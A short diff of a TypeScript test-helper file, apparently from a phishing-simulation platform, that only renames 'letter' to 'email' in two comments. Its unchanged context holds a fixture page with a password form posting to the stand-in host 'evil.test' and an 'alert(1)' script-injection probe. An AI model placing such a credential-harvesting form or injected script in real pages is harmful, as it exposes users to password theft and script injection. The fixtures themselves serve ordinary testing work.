@@ -11,7 +11,7 @@ const EMAIL_HTML = '<html><body><p>Здравствуйте, {{first_name}}</p><
 const PAGE =
   '<html><head><title>x</title></head><body><form action="http://evil.test"><input name="password" type="password"><button>Go</button></form><script>alert(1)</script></body></html>';
 
-/** A template of the organisation with one letter and one page; gives its id. */
+/** A template of the organisation with one email and one page; gives its id. */
 export async function makeTemplate(
   server: TestServer,
   { people: { operator } }: TestOrganization,
@@ -118,7 +118,7 @@ export function deliveriesOf(server: TestServer, campaign_id: string): Promise<D
   );
 }
 
-/** As if the letters had left a minute ago: people do not click within ten seconds. */
+/** As if the emails had left a minute ago: people do not click within ten seconds. */
 export async function letTimePass(server: TestServer, campaign_id: string): Promise<void> {
   await asSystem(server.services.database, (tx) =>
     tx
